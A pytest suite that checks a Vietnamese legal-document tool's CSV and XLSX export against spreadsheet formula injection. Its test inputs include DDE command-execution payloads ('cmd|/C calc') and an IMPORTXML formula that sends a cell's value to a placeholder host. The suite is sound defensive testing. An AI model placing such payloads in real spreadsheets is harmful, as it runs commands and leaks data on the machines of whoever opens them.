"""Lists for spreadsheets: no cell is a formula whoever opens them, and a workbook keeps the text."""

import csv
import io
import unicodedata
import zipfile

import pytest
from lxml import etree
from python_calamine import CalamineWorkbook

from quyche.formats import spreadsheets

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SIGNS = "=+-@|%−"
TRICKS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "|calc", "%1", "−1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫SUM(1)", "⁼1", "⁺1", "₋1"),
    *(
        "\u200b=1+1",
        "\u200c\u200d=1",
        "\ufeff=1+1",
        "\u2060＝1",
        "\u00ad=1",
        "\u034f=1",
        "\ufe0f=1",
    ),
    *("\u00a0=1+1", "\u3000=1+1", "\u2003 ＝1", " =1+1", "\u2800=1", "\u3164=1", "\u115f=1"),
    *(
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "\x0b=1",
        "\x0c=1",
        "\x00=1",
        "\u0085=1",
        "\u2028=1",
    ),
    *('"=1+1', "'=1+1", "'\"'=1+1", "”=1", "«=1+1", "`=1", '"\n=1+1', '" ＝1'),
    *("x;=1+1", "x,=1+1", "x;\u200b＝1", "x; -1", 'x";=1+1', 'x",=1+1', 'x;"=1+1', "x\t=1+1"),
    *("=cmd|' /C calc'!A0", 'DDE("cmd";"/C calc")\n=1', "@SUM(1+1)*cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://x.invalid";"Xem")', '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")'),
    *("\u202e=1+1", "\u2066=1", "\U000e0020=1", "=\x001", "x\r\n=1+1", "x\n;=1"),
)
KEPT = (
    "",
    "Phạm vi điều chỉnh",
    "“Tổ chức đảng” là gì",
    "Điều 4a (Phụ lục 1)",
    "sửa đổi, đổi số",
    "Nhiệm kỳ 2020-2025; chế độ = mức + phụ cấp",
    "Tỷ lệ 50% trở lên",
    "Thư điện tử a@b.vn",
)


@pytest.mark.parametrize("text", TRICKS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_list_begins_a_formula_wherever_it_is_parted(
    text: str, separator: str
) -> None:
    written = spreadsheets.as_csv([("Số cũ", "Tên"), ("Điều 1", text), (text, "Điều 2")])
    assert written.startswith(b"\xef\xbb\xbf")
    lines = io.StringIO(written.decode("utf-8-sig"), newline="")
    rows = list(csv.reader(lines, delimiter=separator))
    assert len(rows) == 3
    assert [cell for row in rows for cell in row if seen(cell).startswith(tuple(SIGNS))] == []
    if separator == ",":
        assert {len(row) for row in rows} == {2}


def seen(cell: str) -> str:
    """What somebody sees of a cell, quotation marks of the list aside."""
    plain = unicodedata.normalize("NFKC", cell)
    return "".join(
        letter for letter in plain if letter.isprintable() and letter not in '" \u2800ᅟᅠ'
    )


@pytest.mark.parametrize("text", TRICKS)
def test_a_list_that_had_to_mark_a_cell_says_so(text: str) -> None:
    assert not spreadsheets.is_kept_by_csv([("Tên",), (text,)])


def test_a_list_keeps_what_people_write() -> None:
    rows = [KEPT, KEPT[::-1]]
    assert spreadsheets.is_kept_by_csv(rows)
    read = csv.reader(io.StringIO(spreadsheets.as_csv(rows).decode("utf-8-sig"), newline=""))
    assert [tuple(row) for row in read] == rows


ROWS = (("Tên", "Số"), *((text, "1.10") for text in (*TRICKS, *KEPT)), ("_x0041_ 007", "1/2"))


def held(text: str) -> str:
    """What XML can hold of a text: no control characters, and none that turn a line."""
    return "".join(
        letter
        for letter in text
        if letter in "\t\n\r" or (letter >= " " and letter not in "\u202e\u2066")
    )


def test_a_workbook_keeps_every_text_to_the_letter() -> None:
    book = CalamineWorkbook.from_filelike(io.BytesIO(written()))
    read = book.get_sheet_by_index(0).to_python()
    assert {type(cell) for row in read for cell in row} == {str}
    plain = [[str(cell).replace("\r\n", "\n").replace("\r", "\n") for cell in row] for row in read]
    wanted = [
        [held(cell).replace("\r\n", "\n").replace("\r", "\n") for cell in row] for row in ROWS
    ]
    assert plain == wanted


def test_every_cell_of_a_workbook_is_a_text_and_stays_one_when_it_is_edited() -> None:
    with zipfile.ZipFile(io.BytesIO(written())) as archive:
        sheet = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        styles = etree.fromstring(archive.read("xl/styles.xml"))
    cells = list(sheet.iter(f"{MAIN}c"))
    assert len(cells) == 2 * len(ROWS)
    assert {cell.get("t") for cell in cells} == {"inlineStr"}
    assert {child.tag for cell in cells for child in cell} == {f"{MAIN}is"}
    formats = styles.find(f"{MAIN}cellXfs")
    assert formats is not None
    for cell in cells:
        used = formats[int(cell.get("s", "0"))]
        assert (used.get("numFmtId"), used.get("quotePrefix")) == ("49", "1")


def test_the_same_rows_give_the_same_workbook() -> None:
    assert written() == written()


def written() -> bytes:
    return spreadsheets.as_workbook("Bảng đối chiếu", "", "vi-VN", ROWS)
